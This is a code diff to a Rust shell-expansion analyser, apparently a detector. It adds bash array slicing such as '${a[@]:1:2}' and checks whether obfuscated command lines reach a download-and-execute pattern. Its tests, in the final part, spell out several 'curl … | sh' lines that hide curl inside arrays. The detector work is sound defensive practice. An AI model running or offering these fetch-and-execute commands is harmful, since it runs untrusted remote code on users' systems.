@@ -511,6 +511,32 @@ impl<'a> Shell<'a> {
         }
     }
 
+    /// The elements `${a[@]…}` gives with its operation applied: a
+    /// substring form slices the elements (`${a[@]:1:2}`: from element 1,
+    /// two of them; a negative offset counts from the end), any other
+    /// applies to each element (bash manual, "Shell Parameter Expansion").
+    /// None: an operation the lab does not model.
+    fn edited_elements(&mut self, p: &Param) -> Option<Vec<String>> {
+        let all = self.elements(&p.name);
+        match &p.edit {
+            None => Some(all),
+            Some(super::param_edit::Edit::Substring { offset, length }) => {
+                let n = all.len() as i64;
+                let from = if *offset < 0 { n + offset } else { *offset };
+                if !(0..=n).contains(&from) {
+                    return Some(Vec::new());
+                }
+                let to = match length {
+                    None => n,
+                    Some(l) if *l < 0 => return None,
+                    Some(l) => (from + l).min(n),
+                };
+                Some(all[from as usize..to.max(from) as usize].to_vec())
+            }
+            Some(edit) => all.iter().map(|v| super::param_edit::apply(v, edit)).collect(),
+        }
+    }
+
     /// The elements `${name[@]}` gives: an array's, a set scalar as its one
     /// element, none when unset.
     fn elements(&mut self, name: &str) -> Vec<String> {
@@ -704,16 +730,10 @@ impl<'a> Shell<'a> {
                 // first and last.
                 let each = matches!(p.index, Some(ParamIndex::All { star }) if !(star && p.quoted));
                 if each && p.op == ParamOp::Value && !p.indirect {
-                    let mut all = self.elements(&p.name);
-                    if let Some(edit) = &p.edit {
-                        match all.iter().map(|v| super::param_edit::apply(v, edit)).collect() {
-                            Some(edited) => all = edited,
-                            None => {
-                                ok = false;
-                                continue;
-                            }
-                        }
-                    }
+                    let Some(all) = self.edited_elements(p) else {
+                        ok = false;
+                        continue;
+                    };
                     if ifs.is_none() {
                         split_fields(&mut fields, &mut open, &e.text, "");
                     }
@@ -817,7 +837,10 @@ impl<'a> Shell<'a> {
                         // `"${a[*]}"`: one word, the elements joined by the
                         // first character of IFS.
                         Some(ParamIndex::All { .. }) => {
-                            let all = self.elements(&p.name);
+                            let Some(all) = self.edited_elements(p) else {
+                                ok = false;
+                                continue;
+                            };
                             let ifs = self.var("IFS").unwrap_or_else(|| " ".to_string());
                             let sep: String = ifs.chars().take(1).collect();
                             (!all.is_empty()).then(|| all.join(&sep))
@@ -827,7 +850,8 @@ impl<'a> Shell<'a> {
                         // `${!p}`: the variable p's value names.
                         value = value.and_then(|n| self.var(&n));
                     }
-                    if let (Some(edit), Some(v)) = (&p.edit, &value) {
+                    let whole = matches!(p.index, Some(ParamIndex::All { .. }));
+                    if let (Some(edit), Some(v), false) = (&p.edit, &value, whole) {
                         match super::param_edit::apply(v, edit) {
                             Some(edited) => value = Some(edited),
                             None => {
@@ -7891,6 +7915,9 @@ mod tests {
             "a=(x curl); \"${a[-1]}\" -s https://update-check.app/i.sh | sh",
             "a=(curl -s); $a https://update-check.app/i.sh | sh",
             "declare -a a=(curl -s); \"${a[@]}\" https://update-check.app/i.sh | sh",
+            "a=(x curl -s); \"${a[@]:1}\" https://update-check.app/i.sh | sh",
+            "a=(x curl -s y); ${a[@]:1:2} https://update-check.app/i.sh | sh",
+            "a=(xcurl); \"${a[@]#x}\" -s https://update-check.app/i.sh | sh",
             "i=1; a=(x curl); \"${a[i]}\" -s https://update-check.app/i.sh | sh",
             "printf 'curl\\n' | { mapfile -t a; \"${a[0]}\" -s https://update-check.app/i.sh | sh; }",
         ] {
@@ -7908,6 +7935,7 @@ mod tests {
             "a=(x curl); $a -s https://update-check.app/i.sh | sh",
             "a=(curl -s); unset a; \"${a[@]}\" https://update-check.app/i.sh | sh",
             "a=(curl -s); echo ${#a[@]} https://update-check.app/i.sh | sh",
+            "a=(x curl -s); \"${a[@]:0:1}\" https://update-check.app/i.sh | sh",
         ] {
             assert!(!reaches(line, DownloadExecute), "{line}");
         }
